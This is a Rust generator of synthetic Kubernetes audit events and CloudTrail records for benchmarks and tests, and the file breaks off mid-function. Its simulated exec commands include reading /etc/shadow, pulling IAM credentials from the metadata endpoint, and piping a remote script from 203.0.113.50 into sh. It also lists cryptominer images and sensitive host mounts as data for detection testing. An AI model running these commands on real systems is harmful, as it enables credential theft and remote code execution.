//! Synthetic events for benchmarks and differential tests: realistic
//! Kubernetes audit events and CloudTrail records, deterministic per seed.

use serde_json::{json, Value};

/// Kubernetes audit events (audit.k8s.io/v1 Event), one JSON document per
/// string, no trailing newline. Average size about 1.8 KB.
pub fn k8s_events(n: usize, seed: u64) -> Vec<String> {
    let mut g = K8s {
        r: Rng::new(seed),
        now: START_US,
        rv: 4_812_337,
    };
    (0..n).map(|_| text(&g.event())).collect()
}

/// CloudTrail records, one JSON document per string.
pub fn cloudtrail_records(n: usize, seed: u64) -> Vec<String> {
    let mut g = Trail {
        r: Rng::new(!seed),
        now: START_US / 1_000_000,
    };
    (0..n).map(|_| text(&g.record())).collect()
}

fn text(v: &Value) -> String {
    serde_json::to_string(v).unwrap_or_default()
}

/// Drops an object's null members: optional fields left unset.
fn compact(mut v: Value) -> Value {
    if let Some(m) = v.as_object_mut() {
        m.retain(|_, x| !x.is_null());
    }
    v
}

// ---- randomness and formatting ------------------------------------------------

/// splitmix64: tiny, fast, and plenty for synthetic data.
struct Rng(u64);

impl Rng {
    fn new(seed: u64) -> Rng {
        Rng(seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) ^ 0x2545_F491_4F6C_DD1D)
    }
    /// A generator that depends only on `s`: stable ids per name.
    fn of(s: &str) -> Rng {
        Rng::new(s.bytes().fold(0xCBF2_9CE4_8422_2325, |h, b| {
            (h ^ u64::from(b)).wrapping_mul(0x100_0000_01B3)
        }))
    }
    fn bits(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let z = (self.0 ^ (self.0 >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        let z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    fn range(&mut self, lo: u64, hi: u64) -> u64 {
        lo + self.bits() % (hi - lo + 1)
    }
    /// True with probability `per_mille` / 1000.
    fn odds(&mut self, per_mille: u64) -> bool {
        self.bits() % 1000 < per_mille
    }
    fn pick<T: Copy>(&mut self, xs: &[T]) -> T {
        xs[(self.bits() % xs.len() as u64) as usize]
    }
    fn weighted<T: Copy>(&mut self, xs: &[(u32, T)]) -> T {
        let mut roll = self.bits() % xs.iter().map(|x| u64::from(x.0)).sum::<u64>();
        for &(w, x) in xs {
            if roll < u64::from(w) {
                return x;
            }
            roll -= u64::from(w);
        }
        xs[xs.len() - 1].1
    }
    fn chars(&mut self, n: usize, set: &[u8]) -> String {
        (0..n).map(|_| char::from(self.pick(set))).collect()
    }
    fn hex(&mut self, n: usize) -> String {
        self.chars(n, b"0123456789abcdef")
    }
    fn upper(&mut self, n: usize) -> String {
        self.chars(n, b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567")
    }
    fn uuid(&mut self) -> String {
        let v = self.pick(&['8', '9', 'a', 'b']);
        format!(
            "{}-{}-4{}-{v}{}-{}",
            self.hex(8),
            self.hex(4),
            self.hex(3),
            self.hex(3),
            self.hex(12)
        )
    }
    fn private_ip(&mut self) -> String {
        format!("10.0.{}.{}", self.range(0, 63), self.range(2, 254))
    }
    fn public_ip(&mut self) -> String {
        let net = self.pick(&[
            "203.0.113",
            "198.51.100",
            "52.94.133",
            "176.95.188",
            "85.214.132",
            "34.201.17",
        ]);
        format!("{net}.{}", self.range(1, 254))
    }
}

/// 2024-06-03T09:00:00Z, in microseconds since the Unix epoch.
const START_US: i64 = 1_717_405_200_000_000;

/// RFC 3339 UTC, with microseconds (Kubernetes) or whole seconds (CloudTrail).
fn stamp(us: i64, micros: bool) -> String {
    let secs = us.div_euclid(1_000_000);
    let z = secs.div_euclid(86_400) + 719_468; // days since 0000-03-01
    let (era, doe) = (z.div_euclid(146_097), z.rem_euclid(146_097));
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let (d, m) = (
        doy - (153 * mp + 2) / 5 + 1,
        if mp < 10 { mp + 3 } else { mp - 9 },
    );
    let y = yoe + era * 400 + i64::from(m <= 2);
    let t = secs.rem_euclid(86_400);
    let frac = if micros {
        format!(".{:06}", us.rem_euclid(1_000_000))
    } else {
        String::new()
    };
    format!(
        "{y:04}-{m:02}-{d:02}T{:02}:{:02}:{:02}{frac}Z",
        t / 3600,
        t / 60 % 60,
        t % 60
    )
}

/// Go's `url.QueryEscape`, as kubectl encodes exec commands.
fn query_escape(s: &str) -> String {
    s.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                char::from(b).to_string()
            }
            b' ' => "+".to_string(),
            _ => format!("%{b:02X}"),
        })
        .collect()
}

// ---- Kubernetes: vocabulary ---------------------------------------------------

const ACCT: &str = "123456789012";
const KV: &str = "v1.29.3-eks-adc7111 (linux/amd64) kubernetes/e3a5d4f";
const RBAC: &str = "rbac.authorization.k8s.io";
const NAMESPACES: &[&str] = &[
    "default",
    "kube-system",
    "production",
    "staging",
    "monitoring",
    "payments",
    "argocd",
];
const APPS: &[&str] = &[
    "web", "api", "checkout", "payments", "frontend", "worker", "cart", "search", "redis",
];
const NODES: &[&str] = &[
    "ip-10-0-1-23.ec2.internal",
    "ip-10-0-2-117.ec2.internal",
    "ip-10-0-3-45.ec2.internal",
    "ip-10-0-1-201.ec2.internal",
];
const CONTROLLERS: &[&str] = &[
    "replicaset-controller",
    "deployment-controller",
    "daemon-set-controller",
    "cronjob-controller",
    "job-controller",
    "endpointslice-controller",
    "namespace-controller",
    "generic-garbage-collector",
    "node-controller",
];
/// (namespace, service account, user agent) of in-cluster API clients.
const WORKLOADS: &[(&str, &str, &str)] = &[
    (
        "kube-system",
        "aws-node",
        "aws-node/v1.16.0 (linux/amd64) kubernetes/$Format",
    ),
    (
        "kube-system",
        "coredns",
        "coredns/v1.11.1 (linux/amd64) kubernetes/ae1fb3a",
    ),
    (
        "kube-system",
        "ebs-csi-controller-sa",
        "csi-provisioner/v0.0.0 (linux/amd64) kubernetes/$Format",
    ),
    (
        "kube-system",
        "cluster-autoscaler",
        "cluster-autoscaler/v1.29.0 (linux/amd64) kubernetes/$Format",
    ),
    ("monitoring", "prometheus-server", "Prometheus/2.50.1"),
    (
        "argocd",
        "argocd-application-controller",
        "argocd-application-controller/v2.10.4 (linux/amd64)",
    ),
    ("production", "default", "Go-http-client/2.0"),
];
/// (role, session, role id) of EKS access-entry principals.
const IAM_ROLES: &[(&str, &str, &str)] = &[
    (
        "AWSReservedSSO_AdministratorAccess_6f2c3b1a9e8d7c45",
        "alice@example.com",
        "AROAY5BLEXAMPLEADMIN01",
    ),
    ("DevOps", "bob", "AROAY5BLEXAMPLEDEVOPS2"),
    (
        "github-actions-deployer",
        "GitHubActions",
        "AROAY5BLEXAMPLECIDEPL3",
    ),
];
const KUBECTL: &[&str] = &[
    "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819",
    "kubectl/v1.29.3 (darwin/arm64) kubernetes/6813625",
    "kubectl/v1.28.4 (windows/amd64) kubernetes/bae2c62",
];
const IMAGES: &[(u32, &str)] = &[
    (18, "nginx:1.25.4"),
    (8, "nginx:latest"),
    (10, "redis:7.2-alpine"),
    (6, "busybox:1.36"),
    (4, "busybox"),
    (6, "registry.k8s.io/pause:3.9"),
    (5, "registry.k8s.io/coredns/coredns:v1.11.1"),
    (
        16,
        "123456789012.dkr.ecr.us-east-1.amazonaws.com/app:v1.2.3",
    ),
    (
        8,
        "123456789012.dkr.ecr.us-east-1.amazonaws.com/payments-api:2024.06.1",
    ),
    (
        5,
        "602401143452.dkr.ecr.us-east-1.amazonaws.com/amazon-k8s-cni:v1.16.0",
    ),
    (5, "postgres:16.2"),
    (5, "quay.io/prometheus/node-exporter:v1.7.0"),
    (4, "fluent/fluent-bit:2.2.2"),
    (3, "alpine:3.19"),
    (2, "curlimages/curl:8.6.0"),
    (1, "xmrig/xmrig:latest"),
    (1, "metal3d/xmrig:latest"),
];
const HOST_PATHS: &[(&str, &str)] = &[
    ("/var/run/docker.sock", "Socket"),
    ("/etc", "Directory"),
    ("/", ""),
    ("/var/log", "Directory"),
    ("/proc", "Directory"),
    ("/run/containerd/containerd.sock", "Socket"),
];
const COMMANDS: &[&[&str]] = &[
    &["sh"],
    &["/bin/bash"],
    &["env"],
    &["ps", "aux"],
    &["redis-cli", "info"],
    &["cat", "/etc/nginx/nginx.conf"],
    &["ls", "/var/run/secrets/kubernetes.io/serviceaccount"],
    &["sh", "-c", "cat /etc/shadow"],
    &[
        "sh",
        "-c",
        "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    ],
    &["sh", "-c", "wget -qO- http://203.0.113.50/x.sh | sh"],
];
/// (resource, API group, namespaced); every one is served at version v1.
const RESOURCES: &[(&str, &str, bool)] = &[
    ("pods", "", true),
    ("secrets", "", true),
    ("configmaps", "", true),
    ("services", "", true),
    ("events", "", true),
    ("namespaces", "", false),
    ("nodes", "", false),
    ("deployments", "apps", true),
    ("daemonsets", "apps", true),
    ("cronjobs", "batch", true),
    ("leases", "coordination.k8s.io", true),
    ("rolebindings", RBAC, true),
    ("clusterrolebindings", RBAC, false),
    ("clusterroles", RBAC, false),
];
const READS: &[(u32, &str)] = &[
    (22, "pods"),
    (8, "secrets"),
    (12, "configmaps"),
    (8, "services"),
    (6, "events"),
    (4, "namespaces"),
    (10, "nodes"),
    (8, "deployments"),
    (4, "daemonsets"),
    (3, "cronjobs"),
    (8, "leases"),
    (3, "rolebindings"),
    (2, "clusterrolebindings"),
    (2, "clusterroles"),
];

/// What a request targets: its objectRef and the path of its requestURI.
struct Target {
    res: &'static str,
    group: &'static str,
    ns: Option<String>,
    name: Option<String>,
    sub: Option<&'static str>,
}

impl Target {
    fn uri(&self, query: &str) -> String {
        let mut s = if self.group.is_empty() {
            "/api/v1".to_string()
        } else {
            format!("/apis/{}/v1", self.group)
        };
        if let Some(ns) = self.ns.as_ref().filter(|_| self.res != "namespaces") {
            s += &format!("/namespaces/{ns}");
        }
        for part in [Some(self.res), self.name.as_deref(), self.sub]
            .into_iter()
            .flatten()
        {
            s += &format!("/{part}");
        }
        if !query.is_empty() {
            s += &format!("?{query}");
        }
        s
    }
    fn object_ref(&self) -> Value {
        let group = Some(self.group).filter(|g| !g.is_empty());
        compact(
            json!({"resource": self.res, "namespace": self.ns, "name": self.name, "apiGroup": group,
            "apiVersion": "v1", "subresource": self.sub}),
        )
    }
    /// `pods "web-1"`, `deployments.apps "api"` or `secrets`, as API messages name things.
    fn what(&self) -> String {
        let gr = if self.group.is_empty() {
            self.res.to_string()
        } else {
            format!("{}.{}", self.res, self.group)
        };
        self.name
            .as_ref()
            .map_or(gr.clone(), |n| format!("{gr} \"{n}\""))
    }
}

/// The failure reason and message of an unsuccessful response.
fn failure(
    code: u16,
    verb: &str,
    user: &str,
    t: Option<&Target>,
    uri: &str,
) -> Option<(&'static str, String)> {
    let what = t.map(Target::what).unwrap_or_default();
    Some(match (code, t) {
        (401, _) => ("Unauthorized", "Unauthorized".into()),
        (403, None) => ("Forbidden", format!("forbidden: User \"{user}\" cannot {verb} path \"{uri}\"")),
        (403, Some(t)) => {
            let scope = t.ns.as_ref().map_or("at the cluster scope".into(), |ns| format!("in the namespace \"{ns}\""));
            let res = t.sub.map_or(t.res.to_string(), |s| format!("{}/{s}", t.res));
            let why = format!("cannot {verb} resource \"{res}\" in API group \"{}\" {scope}", t.group);
            ("Forbidden", format!("{what} is forbidden: User \"{user}\" {why}"))
        }
        (404, _) => ("NotFound", format!("{what} not found")),
        (409, _) if verb == "create" => ("AlreadyExists", format!("{what} already exists")),
        (409, _) => ("Conflict", format!("Operation cannot be fulfilled on {what}: the object has been modified; please apply your changes to the latest version and try again")),
        (500, _) => ("InternalError", "Internal error occurred: failed calling webhook \"vpc.k8s.aws\": context deadline exceeded".into()),
        (503, _) => ("ServiceUnavailable", "the server is currently unable to handle the request".into()),
        (504, _) => ("Timeout", "Timeout: request did not complete within requested timeout - context deadline exceeded".into()),
        _ => return None,
    })
}

/// A requester: an authenticated user, or nobody (empty name) on a 401.
struct Who {
    name: String,
    uid: Option<String>,
    groups: Vec<String>,
    extra: Option<Value>,
    agent: String,
    ips: Vec<String>,
    reason: String,
}

impl Who {
    fn new(name: &str, groups: &[&str], agent: &str, ips: Vec<String>, reason: String) -> Who {
        let groups = groups.iter().map(|g| g.to_string()).collect();
        Who {
            name: name.into(),
            uid: None,
            groups,
            extra: None,
            agent: agent.into(),
            ips,
            reason,
        }
    }
    fn user(&self) -> Value {
        if self.name.is_empty() {
            return json!({});
        }
        compact(
            json!({"username": self.name, "uid": self.uid, "groups": self.groups, "extra": self.extra}),
        )
    }
}

fn rbac(binding: &str, role: &str, subject: &str) -> String {
    format!(
        "RBAC: allowed by ClusterRoleBinding \"{binding}\" of ClusterRole \"{role}\" to {subject}"
    )
}

/// `user.extra` of an IAM principal authenticated by aws-iam-authenticator.
fn eks_extra(key: &str, arn: &str, canonical: &str, pid: &str, session: &str) -> Option<Value> {
    Some(
        json!({"accessKeyId": [key], "arn": [arn], "canonicalArn": [canonical], "principalId": [pid],
        "sessionName": [session], "sigs.k8s.io/aws-iam-authenticator/principalId": [pid]}),
    )
}

#[derive(Clone, Copy)]
enum As {
    Controller,
    Control,
    Node,
    Workload,
    Iam,
    Oidc,
    Admin,
    Anonymous,
}
const HUMANS: &[(u32, As)] = &[(40, As::Iam), (35, As::Oidc), (25, As::Admin)];

// ---- Kubernetes: generator ----------------------------------------------------

struct K8s {
    r: Rng,
    now: i64,
    rv: u64,
}

type Gen = fn(&mut K8s) -> Value;
const MIX: &[(u32, Gen)] = &[
    (585, K8s::read),
    (130, K8s::lease),
    (25, K8s::non_resource),
    (15, K8s::anonymous),
    (15, K8s::exec),
    (15, K8s::forbidden),
    (75, K8s::create_pod),
    (45, K8s::create_workload),
    (12, K8s::create_rbac),
    (18, K8s::create_other),
    (25, K8s::patch),
    (40, K8s::delete),
];

impl K8s {
    fn event(&mut self) -> Value {
        self.now += self.r.range(1_000, 120_000) as i64;
        self.rv += self.r.range(1, 7);
        let gen = self.r.weighted(MIX);
        gen(self)
    }

    fn who(&mut self, mix: &[(u32, As)]) -> Who {
        let r = &mut self.r;
        let public = |r: &mut Rng| {
            if r.odds(300) {
                vec![r.public_ip(), r.private_ip()]
            } else {
                vec![r.public_ip()]
            }
        };
        let x509 = |who: &str| {
            Some(
                json!({"authentication.kubernetes.io/credential-id": [format!("X509SHA256={}", Rng::of(who).hex(64))]}),
            )
        };
        match r.weighted(mix) {
            As::Controller => {
                let c = r.pick(CONTROLLERS);
                self.controller(c)
            }
            As::Control => {
                let c = r.pick(&["kube-controller-manager", "kube-scheduler"]);
                let name = format!("system:{c}");
                let ips = vec![r.pick(&["10.0.0.17", "10.0.32.146"]).to_string()];
                let reason = rbac(&name, &name, &format!("User \"{name}\""));
                let agent = format!("{c}/{KV}/leader-election");
                Who {
                    extra: x509(c),
                    ..Who::new(&name, &["system:authenticated"], &agent, ips, reason)
                }
            }
            As::Node => {
                let node = r.pick(NODES);
                let inst = format!("i-0{}", Rng::of(node).hex(16));
                let pid = "AROAY5BLEXAMPLENODEGR4";
                let ip = node
                    .trim_start_matches("ip-")
                    .split('.')
                    .next()
                    .unwrap_or_default()
                    .replace('-', ".");
                let groups = [
                    "system:bootstrappers",
                    "system:nodes",
                    "system:authenticated",
                ];
                let arn = format!("arn:aws:sts::{ACCT}:assumed-role/eks-node-group-role/{inst}");
                let canonical = format!("arn:aws:iam::{ACCT}:role/eks-node-group-role");
                let key = format!("ASIA{}", Rng::of(&inst).upper(16));
                Who {
                    uid: Some(format!("aws-iam-authenticator:{ACCT}:{pid}")),
                    extra: eks_extra(&key, &arn, &canonical, pid, &inst),
                    ..Who::new(
                        &format!("system:node:{node}"),
                        &groups,
                        &format!("kubelet/{KV}"),
                        vec![ip],
                        String::new(),
                    )
                }
            }
            As::Workload => {
                let (ns, sa, agent) = r.pick(WORKLOADS);
                let name = format!("system:serviceaccount:{ns}:{sa}");
                let node = r.pick(NODES);
                let extra = json!({"authentication.kubernetes.io/credential-id": [format!("JTI={}", r.uuid())],
                    "authentication.kubernetes.io/node-name": [node], "authentication.kubernetes.io/node-uid": [Rng::of(node).uuid()],
                    "authentication.kubernetes.io/pod-name": [format!("{sa}-{}", Rng::of(sa).hex(5))],
                    "authentication.kubernetes.io/pod-uid": [Rng::of(&name).uuid()]});
                let groups = [
                    "system:serviceaccounts",
                    &format!("system:serviceaccounts:{ns}"),
                    "system:authenticated",
                ];
                let reason = rbac(sa, sa, &format!("ServiceAccount \"{sa}/{ns}\""));
                let base = Who::new(&name, &groups, agent, vec![r.private_ip()], reason);
                Who {
                    uid: Some(Rng::of(&name).uuid()),
                    extra: Some(extra),
                    ..base
                }
            }
            As::Iam => {
                let (role, session, pid) = r.pick(IAM_ROLES);
                let name = format!("arn:aws:sts::{ACCT}:assumed-role/{role}/{session}");
                let canonical = format!("arn:aws:iam::{ACCT}:role/{role}");
                let policy = "arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy";
                let reason = format!("EKS Access Policy: allowed by ClusterRoleBinding \"{canonical}+{policy}\" of ClusterRole \"{policy}\" to User \"{name}\"");
                let agent = if r.odds(150) {
                    "Helm/3.14.2"
                } else {
                    r.pick(KUBECTL)
                };
                let key = format!("ASIA{}", Rng::of(session).upper(16));
                Who {
                    uid: Some(format!("aws-iam-authenticator:{ACCT}:{pid}")),
                    extra: eks_extra(&key, &name, &canonical, pid, session),
                    ..Who::new(&name, &["system:authenticated"], agent, public(r), reason)
                }
            }
            As::Oidc => {
                let (name, group, role) = r.pick(&[
                    ("alice@example.com", "platform-team", "cluster-admin"),
                    ("dave@example.com", "developers", "edit"),
                    ("erin@example.com", "developers", "edit"),
                ]);
                let reason = rbac(
                    &format!("{group}-{role}"),
                    role,
                    &format!("Group \"{group}\""),
                );
                Who::new(
                    name,
                    &[group, "system:authenticated"],
                    r.pick(KUBECTL),
                    public(r),
                    reason,
                )
            }
            As::Admin => {
                let base = Who::new(
                    "kubernetes-admin",
                    &["system:masters", "system:authenticated"],
                    r.pick(KUBECTL),
                    public(r),
                    String::new(),
                );
                Who {
                    extra: x509("kubernetes-admin"),
                    ..base
                }
            }
            As::Anonymous => {
                let agent = r.pick(&[
                    "curl/8.5.0",
                    "python-requests/2.31.0",
                    "Go-http-client/1.1",
                    "Mozilla/5.0 zgrab/0.x",
                    "ELB-HealthChecker/2.0",
                ]);
                let reason = rbac(
                    "system:public-info-viewer",
                    "system:public-info-viewer",
                    "Group \"system:unauthenticated\"",
                );
                Who::new(
                    "system:anonymous",
                    &["system:unauthenticated"],
                    agent,
                    vec![r.public_ip()],
                    reason,
                )
            }
        }
    }

    fn controller(&mut self, c: &str) -> Who {
        let name = format!("system:serviceaccount:kube-system:{c}");
        let groups = [
            "system:serviceaccounts",
            "system:serviceaccounts:kube-system",
            "system:authenticated",
        ];
        let agent = format!("kube-controller-manager/{KV}/{name}");
        let ips = vec![self.r.pick(&["10.0.0.17", "10.0.32.146"]).to_string()];
        let role = format!("system:controller:{c}");
        let reason = rbac(&role, &role, &format!("ServiceAccount \"{c}/kube-system\""));
        Who {
            uid: Some(Rng::of(&name).uuid()),
            ..Who::new(&name, &groups, &agent, ips, reason)
        }
    }

    fn pod_name(&mut self, app: &str) -> String {
        format!(
            "{app}-{}-{}",
            self.r.hex(10),
            self.r.chars(5, b"bcdfghjklmnpqrstvwxz2456789")
        )
    }

    /// A target on `res`: `named` for single-object verbs; `wide` allows all namespaces.
    fn target(&mut self, res: &'static str, named: bool, wide: bool) -> Target {
        let &(res, group, namespaced) = RESOURCES
            .iter()
            .find(|x| x.0 == res)
            .unwrap_or(&RESOURCES[0]);
        let app = self.r.pick(APPS);
        let name = named.then(|| match res {
            "pods" => self.pod_name(app),
            "events" => format!("{}.{}", self.pod_name(app), self.r.hex(16)),
            "secrets" => format!("{app}-{}", self.r.pick(&["credentials", "tls", "token"])),
            "configmaps" if self.r.odds(300) => "kube-root-ca.crt".into(),
            "configmaps" => format!("{app}-config"),
            "nodes" => self.r.pick(NODES).into(),
            "namespaces" => self.r.pick(NAMESPACES).into(),
            "clusterroles" => self
                .r
                .pick(&[
                    "cluster-admin",
                    "view",
                    "edit",
                    "admin",
                    "system:aggregate-to-view",
                ])
                .into(),
            "clusterrolebindings" => self
                .r
                .pick(&["cluster-admin", "system:node-proxier", "eks:addon-manager"])
                .into(),
            "daemonsets" => self
                .r
                .pick(&["aws-node", "kube-proxy", "fluent-bit", "node-exporter"])
                .into(),
            _ => app.into(),
        });
        let ns = match (namespaced, res) {
            (false, "namespaces") => name.clone(),
            (false, _) => None,
            (true, _) if wide && self.r.odds(400) => None,
            (true, _) => Some(self.r.pick(NAMESPACES).to_string()),
        };
        Target {
            res,
            group,
            ns,
            name,
            sub: None,
        }
    }

    /// The success code, or now and then a failure the verb can meet.
    fn code(&mut self, ok: u16, verb: &str) -> u16 {
        match (self.r.range(0, 999), verb) {
            (0..=3, v) if v != "watch" => self.r.pick(&[500, 503, 504]),
            (4..=20, "get" | "delete") => 404,
            (4..=14, "update" | "patch" | "create") => 409,
            _ => ok,
        }
    }

    /// The event without bodies.
    fn emit(
        &mut self,
        who: &Who,
        verb: &'static str,
        t: Option<&Target>,
        uri: String,
        level: &str,
        code: u16,
    ) -> Value {
        let stage = match (code, verb) {
            (101 | 401, _) => "ResponseStarted",
            (_, "watch") if self.r.odds(500) => "ResponseStarted",
            _ => "ResponseComplete",
        };
        let latency = match (stage, verb) {
            ("ResponseComplete", "watch") => self.r.range(60_000_000, 600_000_000),
            ("ResponseStarted", _) => self.r.range(300, 3_000),
            (_, "get" | "list") => self.r.range(800, 12_000),
            _ => self.r.range(2_000, 60_000),
        } as i64;
        let mut status = json!({"metadata": {}, "code": code});
        if let Some((reason, message)) = failure(code, verb, &who.name, t, &uri) {
            status = json!({"metadata": {}, "status": "Failure", "message": message, "reason": reason, "code": code});
            if let Some(t) = t {
                let group = Some(t.group).filter(|g| !g.is_empty());
                status["details"] = compact(json!({"name": t.name, "group": group, "kind": t.res}));
            }
        }
        let mut ev = json!({
            "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": level, "auditID": self.r.uuid(), "stage": stage,
            "requestURI": uri, "verb": verb, "user": who.user(), "sourceIPs": who.ips, "userAgent": who.agent,
            "responseStatus": status, "requestReceivedTimestamp": stamp(self.now - latency, true),
            "stageTimestamp": stamp(self.now, true),
        });
        if let Some(t) = t {
            ev["objectRef"] = t.object_ref();
        }
        if code >= 400 && level == "RequestResponse" {
            let mut body = ev["responseStatus"].clone();
            body["kind"] = json!("Status");
            body["apiVersion"] = json!("v1");
            ev["responseObject"] = body;
        }
        if code != 401 {
            let (decision, why) = if code == 403 {
                ("forbid", "")
            } else {
                ("allow", who.reason.as_str())
            };
            ev["annotations"] = json!({"authorization.k8s.io/decision": decision, "authorization.k8s.io/reason": why});
        }
        ev
    }

    /// Adds the request body and, at RequestResponse on success, the stored object.
    fn bodies(&mut self, mut ev: Value, obj: Value) -> Value {
        if ev["responseStatus"]["code"]
            .as_u64()
            .is_some_and(|c| c < 300)
            && ev["level"] == "RequestResponse"
        {
            let mut stored = obj.clone();
            stored["metadata"]["uid"] = json!(self.r.uuid());
            stored["metadata"]["resourceVersion"] = json!(self.rv.to_string());
            stored["metadata"]["creationTimestamp"] = json!(stamp(self.now, false));
            ev["responseObject"] = stored;
        }
        if ev["level"] != "Metadata" {
            ev["requestObject"] = obj;
        }
        ev
    }

    fn read(&mut self) -> Value {
        let who = self.who(&[
            (30, As::Node),
            (28, As::Controller),
            (22, As::Workload),
            (4, As::Control),
            (16, As::Iam),
        ]);
        let res = self.r.weighted(READS);
        let verb = self.r.weighted(&[(45, "get"), (22, "list"), (33, "watch")]);
        let t = self.target(res, verb == "get", true);
        let secs = self.r.range(300, 600);
        let query = match verb {
            "get" => String::new(),
            "list" if who.agent.starts_with("kubectl") => "limit=500".into(),
            "list" => "resourceVersion=0".into(),
            _ => format!("allowWatchBookmarks=true&resourceVersion={}&timeout={}m{}s&timeoutSeconds={secs}&watch=true",
                self.rv - 900, secs / 60, secs % 60),
        };
        let code = self.code(200, verb);
        self.emit(&who, verb, Some(&t), t.uri(&query), "Metadata", code)
    }

    fn lease(&mut self) -> Value {
        let who = self.who(&[(60, As::Node), (40, As::Control)]);
        let (ns, holder) = match who.name.strip_prefix("system:node:") {
            Some(node) => ("kube-node-lease", node.to_string()),
            None => (
                "kube-system",
                who.name.trim_start_matches("system:").to_string(),
            ),
        };
        let t = Target {
            res: "leases",
            group: "coordination.k8s.io",
            ns: Some(ns.into()),
            name: Some(holder.clone()),
            sub: None,
        };
        let level = if self.r.odds(650) {
            "RequestResponse"
        } else {
            "Metadata"
        };
        let code = self.code(200, "update");
        let ev = self.emit(&who, "update", Some(&t), t.uri("timeout=10s"), level, code);
        let fields = json!({"f:spec": {"f:acquireTime": {}, "f:holderIdentity": {}, "f:leaseDurationSeconds": {}, "f:renewTime": {}}});
        let managed = json!([{"manager": holder, "operation": "Update", "apiVersion": "coordination.k8s.io/v1",
            "time": stamp(self.now - 10_000_000, false), "fieldsType": "FieldsV1", "fieldsV1": fields}]);
        let obj = json!({"kind": "Lease", "apiVersion": "coordination.k8s.io/v1",
            "metadata": {"name": holder, "namespace": ns, "uid": Rng::of(&holder).uuid(), "resourceVersion": (self.rv - 40).to_string(),
                "creationTimestamp": "2024-05-21T07:14:03Z", "managedFields": managed},
            "spec": {"holderIdentity": format!("{holder}_{}", Rng::of(&holder).uuid()), "leaseDurationSeconds": 15,
                "acquireTime": "2024-05-21T07:14:03.114027Z", "renewTime": stamp(self.now - 2_000, true), "leaseTransitions": 2}});
        self.bodies(ev, obj)
    }

    fn non_resource(&mut self) -> Value {
        let who = self.who(&[
            (30, As::Anonymous),
            (25, As::Node),
            (15, As::Workload),
            (15, As::Iam),
            (15, As::Control),
        ]);
        let path = self.r.pick(&[
            "/healthz",
            "/readyz",
            "/livez",
            "/version",
            "/version",
            "/metrics",
            "/openapi/v2",
            "/api",
        ]);
        let public = ["/healthz", "/readyz", "/livez", "/version"].contains(&path);
        let code = if who.name == "system:anonymous" && !public {
            403
        } else {
            self.code(200, "list")
        };
        self.emit(&who, "get", None, path.to_string(), "Metadata", code)
    }

    /// Anonymous probes: mostly forbidden, some 401s, a few allowed by a careless binding.
    fn anonymous(&mut self) -> Value {
        let mut who = self.who(&[(1, As::Anonymous)]);
        let verb = self.r.pick(&["get", "list", "list"]);
        let res = self
            .r
            .pick(&["pods", "secrets", "nodes", "namespaces", "configmaps"]);
        let t = self.target(res, verb == "get", true);
        let code = self.r.weighted(&[(60, 403), (25, 401), (15, 200)]);
        who.reason = rbac("anonymous-view", "view", "User \"system:anonymous\"");
        if code == 401 {
            who.name.clear();
        }
        self.emit(&who, verb, Some(&t), t.uri(""), "Metadata", code)
    }

    fn exec(&mut self) -> Value {
        let who = self.who(&[
            (40, As::Iam),
            (25, As::Oidc),
            (25, As::Admin),
            (10, As::Workload),
        ]);
        let mut t = self.target("pods", true, false);
        let container = t
            .name
            .as_deref()
            .and_then(|n| n.split('-').next())
            .unwrap_or("app")
            .to_string();
        let exec = self.r.odds(850);
        t.sub = Some(if exec { "exec" } else { "attach" });
        let mut q = String::new();
        if exec {
            q = self
                .r
                .pick(COMMANDS)
                .iter()
                .map(|c| format!("command={}&", query_escape(c)))
                .collect();
        }
        q += &format!("container={container}");
        q += if self.r.odds(700) {
            "&stdin=true&stdout=true&tty=true"
        } else {
            "&stderr=true&stdout=true"
        };
        let verb = if self.r.odds(900) { "create" } else { "get" };
        let code = if self.r.odds(60) { 403 } else { 101 };
        self.emit(&who, verb, Some(&t), t.uri(&q), "Metadata", code)
    }

    fn forbidden(&mut self) -> Value {
        let who = self.who(&[
            (40, As::Workload),
            (30, As::Oidc),
            (20, As::Iam),
            (10, As::Node),
        ]);
        let (verb, res, named) = self.r.pick(&[
            ("get", "secrets", true),
            ("list", "secrets", false),
            ("create", "clusterrolebindings", false),
            ("list", "nodes", false),
            ("delete", "pods", true),
            ("patch", "deployments", true),
            ("create", "pods", false),
        ]);
        let t = self.target(res, named, verb == "list");
        let level = if self.r.odds(300) {
            "RequestResponse"
        } else {
            "Metadata"
        };
        self.emit(&who, verb, Some(&t), t.uri(""), level, 403)
    }

    /// A pod spec; `host` raises the odds of host access (daemonsets).
    /// Also returns the Pod Security violations it would cause.
    fn pod_spec(&mut self, app: &str, host: u64) -> (Value, Vec<String>) {
        let r = &mut self.r;
        let (mut bad, mut volumes, mut mounts) = (Vec::new(), Vec::new(), Vec::new());
        let token = json!({"sources": [{"serviceAccountToken": {"audience": "sts.amazonaws.com", "path": "token"}}]});
        for (odds, vol, path) in [
            (
                400,
                json!({"name": "config", "configMap": {"name": format!("{app}-config"), "defaultMode": 420}}),
                "/etc/config",
            ),
            (
                300,
                json!({"name": "tls", "secret": {"secretName": format!("{app}-tls"), "defaultMode": 420}}),
                "/etc/tls",
            ),
            (
                300,
                json!({"name": "cache", "emptyDir": {"sizeLimit": "1Gi"}}),
                "/cache",
            ),
            (
                150,
                json!({"name": "aws-iam-token", "projected": token}),
                "/var/run/secrets/eks.amazonaws.com/serviceaccount",
            ),
        ] {
            if r.odds(odds) {
                mounts.push(json!({"name": vol["name"], "mountPath": path, "readOnly": true}));
                volumes.push(vol);
            }
        }
        if r.odds(50 + host) {
            let (path, kind) = r.pick(HOST_PATHS);
            volumes.push(json!({"name": "host", "hostPath": {"path": path, "type": kind}}));
